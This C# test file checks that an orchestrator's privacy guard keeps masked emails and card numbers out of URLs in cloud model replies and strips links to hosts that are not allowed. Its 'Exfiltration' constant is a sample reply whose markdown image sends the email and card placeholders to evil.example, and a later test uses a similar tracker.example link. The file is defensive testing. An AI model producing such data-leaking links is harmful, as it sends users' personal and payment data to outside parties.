using Orchestrator.Pipeline;
using Orchestrator.Tests.Support;

namespace Orchestrator.Tests.Escalation.Privacy;

/// <summary>
/// Issue 12, defect 5: placeholders are never restored inside URLs or markup, and cloud answers go
/// through the link check, which removes links to hosts outside <c>guardian.links.allow</c>.
/// </summary>
public sealed class CloudLinkTests
{
    private const string Email = "jane.doe@contoso.example";
    private const string Card = "4111 1111 1111 1111";
    private const string Exfiltration = "Done. ![s](https://evil.example/p.png?u=<EMAIL_1>&c=<CREDIT_CARD_1>) Anything else?";

    private static Task<EscalationDeployment> StartAsync() =>
        EscalationDeployment.StartAsync(guardianExtra: "guardian: { links: { allow: [ intranet.example.com ] } }");

    [Fact]
    public async Task Placeholders_in_an_image_url_are_not_restored_and_the_foreign_link_is_removed()
    {
        await using var d = await StartAsync();
        d.Primary.DefaultReply = EscalationDeployment.CloudReply(Exfiltration);

        var response = await d.AskAsync($"Mail {Email} about card {Card}", escalate: true);

        Assert.True(response.Escalation.Performed);
        Assert.DoesNotContain(Email, response.Answer, StringComparison.Ordinal);
        Assert.DoesNotContain("4111", response.Answer, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example/", response.Answer, StringComparison.Ordinal);
        Assert.Contains("[link removed: evil.example]", response.Answer, StringComparison.Ordinal);
        var links = Assert.Single(response.Guardian.Checks, c => c.Name == "cloud_links");
        Assert.False(links.Passed);
        Assert.False(response.Guardian.Passed);
    }

    [Fact]
    public async Task Streamed_answers_are_restored_and_checked_the_same_way()
    {
        await using var d = await StartAsync();
        d.Primary.DefaultReply = EscalationDeployment.CloudReply(Exfiltration);

        var text = "";
        OrchestratorResponse? response = null;
        await foreach (var e in d.Runtime.Pipeline.StreamAsync(new OrchestratorRequest($"Mail {Email} about card {Card}", "parking") { EscalationRequested = true }))
        {
            text += e is AnswerDelta delta ? delta.Text : "";
            response = e is StreamCompleted done ? done.Response : response;
        }

        Assert.DoesNotContain(Email, text, StringComparison.Ordinal);
        Assert.DoesNotContain("4111", text, StringComparison.Ordinal);
        Assert.Contains("[link removed: evil.example]", text, StringComparison.Ordinal);
        Assert.Contains(response!.Guardian.Checks, c => c.Name == "cloud_links" && !c.Passed);
    }

    [Fact]
    public async Task Values_are_restored_in_prose_and_allowed_links_stay()
    {
        await using var d = await StartAsync();
        d.Primary.DefaultReply = EscalationDeployment.CloudReply("I will write to <EMAIL_1>. See [the form](https://intranet.example.com/forms/card) or https://docs.intranet.example.com/x.");

        var response = await d.AskAsync($"Mail {Email} please", escalate: true);

        Assert.Equal($"I will write to {Email}. See [the form](https://intranet.example.com/forms/card) or https://docs.intranet.example.com/x.", response.Answer);
        Assert.Contains(response.Guardian.Checks, c => c.Name == "cloud_links" && c.Passed);
    }

    [Fact]
    public async Task Without_an_allow_list_every_foreign_link_in_a_cloud_answer_is_removed()
    {
        await using var d = await EscalationDeployment.StartAsync();
        d.Primary.DefaultReply = EscalationDeployment.CloudReply("Read <a href=\"//tracker.example/t?x=<EMAIL_1>\">this</a>.");

        var response = await d.AskAsync($"Mail {Email} please", escalate: true);

        Assert.DoesNotContain(Email, response.Answer, StringComparison.Ordinal);
        Assert.DoesNotContain("tracker.example/", response.Answer, StringComparison.Ordinal);
    }
}
